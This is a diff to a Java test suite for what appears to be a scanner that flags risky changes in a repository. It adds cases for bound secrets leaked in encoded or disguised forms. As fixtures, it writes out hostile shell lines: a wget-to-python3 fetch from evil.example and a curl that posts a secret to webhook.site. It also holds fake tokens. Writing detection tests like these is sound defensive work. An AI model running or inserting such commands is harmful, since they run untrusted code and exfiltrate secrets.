@@ -49,6 +49,11 @@ class RiskCorpusTest {
     private static final String NPM_TOKEN = "npm_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2";
     private static final String PRIVATE_KEY_BODY = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
     private static final String BOUND_SECRET = "Sup3r-Bound-Value-42";
+    /** Every character the common URL encoders treat differently, and ones beyond ASCII. */
+    private static final String SPECIAL_SECRET = "s3cr~t*!'()/ &=+?#%é€";
+    private static final String ENCODE_URI_COMPONENT_OF_SPECIAL = "s3cr~t*!'()%2F%20%26%3D%2B%3F%23%25%C3%A9%E2%82%AC";
+    /** Longer than 57 bytes: its base64 spans more than one 76-column line. */
+    private static final String LONG_SECRET = "lng~Sec*ret!-" + "a1B2c3D4e5F6g7H8i9J0".repeat(4) + "~!'()";
 
     /** The 23 families the numbered sections of risk-rules.yaml document, in their order. */
     private static final List<String> FAMILIES = List.of("ci-pipeline", "git-hooks", "git-metadata", "links", "secrets",
@@ -318,6 +323,30 @@ class RiskCorpusTest {
                         new byte[] {0, 9})))
                 .expect("binary-file", HIGH, "data.bin")
                 .expect("secret-bound-leaked", CRITICAL, "data.bin"));
+        // a bound secret written into the change is reported against the entry that holds it (issue 13)
+        cases.add(new Case("secrets: a special-character secret written URL-encoded into a config file")
+                .secrets(SPECIAL_SECRET).hits(Map.of("diff.patch", 1L))
+                .after(root -> write(root, "config/app.properties", "db.url=jdbc:postgresql://db/app?password="
+                        + java.net.URLEncoder.encode(SPECIAL_SECRET, StandardCharsets.UTF_8) + "\n"))
+                .expect("secret-bound-leaked", CRITICAL, "config/app.properties"));
+        cases.add(new Case("secrets: a special-character secret in JavaScript's encodeURIComponent form")
+                .secrets(SPECIAL_SECRET).hits(Map.of("diff.patch", 1L, "changes.json", 0L))
+                .after(root -> write(root, "src/client.js", "fetch('https://x.example/?k=" + ENCODE_URI_COMPONENT_OF_SPECIAL + "');\n"))
+                .expect("secret-bound-leaked", CRITICAL, "src/client.js"));
+        cases.add(new Case("secrets: a long secret base64-wrapped at 76 columns into a file")
+                .secrets(LONG_SECRET).hits(Map.of("diff.patch", 2L))
+                .after(root -> write(root, "notes/blob.txt", java.util.Base64.getMimeEncoder(76, "\n".getBytes(StandardCharsets.US_ASCII))
+                        .encodeToString(LONG_SECRET.getBytes(StandardCharsets.UTF_8)) + "\n"))
+                .expect("secret-bound-leaked", CRITICAL, "notes/blob.txt"));
+        cases.add(new Case("secrets: a bound secret as a file's name")
+                .secrets(BOUND_SECRET).hits(Map.of("changes.json", 1L, "diff.patch", 1L))
+                .after(root -> write(root, "cache/" + BOUND_SECRET + ".txt", "x\n"))
+                .expect("secret-bound-leaked", CRITICAL, "cache/" + BOUND_SECRET + ".txt"));
+        cases.add(new Case("secrets: a secret masked in the patch of a file the change deleted")
+                .secrets(BOUND_SECRET).hits(Map.of("diff.patch", 1L))
+                .before(root -> write(root, "old.env", "TOKEN=" + BOUND_SECRET + "\n"))
+                .after(root -> Files.delete(root.resolve("old.env")))
+                .expect("secret-bound-leaked", CRITICAL, "diff.patch"));
         cases.add(new Case("secrets: GitHub token written into a file")
                 .hidden(GITHUB_TOKEN)
                 .after(root -> write(root, "scripts/release.py", "import os\n\nTOKEN = \"" + GITHUB_TOKEN + "\"\n"))
@@ -587,11 +616,12 @@ class RiskCorpusTest {
                 .after(root -> append(root, "scripts/bootstrap.sh", "wget -qO- https://evil.example/a.py | python3\n"))
                 .expect("remote-code", HIGH, "scripts/bootstrap.sh"));
         cases.add(new Case("exfiltration: bound secret posted to webhook.site")
-                .secrets(BOUND_SECRET).hits(Map.of("changes.patch", 1L))
+                .secrets(BOUND_SECRET).hits(Map.of("diff.patch", 1L))
                 .before(root -> write(root, "scripts/report.sh", "#!/bin/sh\necho report\n"))
                 .after(root -> append(root, "scripts/report.sh", "curl -s -d \"key=" + BOUND_SECRET + "\" https://webhook.site/abc\n"))
                 .expect("remote-code", HIGH, "scripts/report.sh")
-                .expect("secret-bound-leaked", CRITICAL, "changes.patch"));
+                // named by the file that holds it, not by the patch it was masked in (issue 13)
+                .expect("secret-bound-leaked", CRITICAL, "scripts/report.sh"));
         cases.add(new Case("exfiltration: sh -c \"$(curl ...)\" and bash <(wget ...)")
                 .before(root -> write(root, "scripts/setup.sh", "#!/bin/sh\necho setup\n"))
                 .after(root -> append(root, "scripts/setup.sh",
